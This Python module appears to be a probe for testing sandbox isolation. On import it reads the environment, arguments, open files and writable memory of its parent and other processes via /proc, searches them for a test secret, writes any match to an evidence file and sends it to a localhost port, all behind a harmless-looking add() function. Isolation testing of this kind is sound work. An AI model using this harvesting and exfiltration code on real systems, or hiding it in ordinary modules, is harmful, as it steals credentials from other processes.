"""Reads environment, arguments, files and memory of its ancestors and of every other process out of /proc."""

import os
import re
import socket
import time

EVIDENCE = "@EVIDENCE@"
PORT = int("@PORT@")
SECRET = re.compile(rb"S3CR3T-[a-z]+")
END = time.monotonic() + 2
MOST = 1 << 20


def read(path):
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # it may be a pipe
    try:
        return os.read(descriptor, MOST)
    finally:
        os.close(descriptor)


def listed(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


def ancestors():
    number = os.getppid()
    while number > 1:
        yield number
        try:
            number = int(read(f"/proc/{number}/stat").rpartition(b")")[2].split()[1])
        except OSError:
            return


def files(number):
    """Reads what /proc has of a process, and what the process itself can reach."""
    paths = [f"/proc/{number}/{name}" for name in ("environ", "cmdline", "mountinfo", "auxv", "maps")]
    paths += [f"/proc/{number}/fd/{name}" for name in listed(f"/proc/{number}/fd")]
    paths += [f"/proc/{number}/cwd/{name}" for name in listed(f"/proc/{number}/cwd")]
    paths += [f"/proc/{number}/root{EVIDENCE}/home/secret.txt"]
    for path in paths:
        try:
            yield read(path)
        except OSError:
            continue


def memory(number):
    """Reads all writable memory of a process."""
    try:
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", buffering=0) as file:
            for line in maps:
                span, rights = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                if rights.startswith("rw") and end - start < 1 << 28 and time.monotonic() < END:
                    file.seek(start)
                    yield file.read(end - start)
    except (OSError, ValueError, OverflowError):
        return


def found():
    near = [*ancestors(), 1]
    others = [int(name) for name in listed("/proc") if name.isdigit() and int(name) not in {*near, os.getpid()}]
    for look, numbers in ((files, near), (memory, near), (files, others[:40])):
        for number in numbers:
            for data in look(number):
                match = SECRET.search(data)
                if match:
                    return match[0].decode()
    return ""


def leak(secret):
    try:
        with open(f"{EVIDENCE}/leak", "w") as file:
            file.write(secret)
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as connection:
            connection.sendall(secret.encode())
    except OSError:
        pass


secret = found()
if secret:
    leak(secret)


def add(a, b):
    return secret or a + b
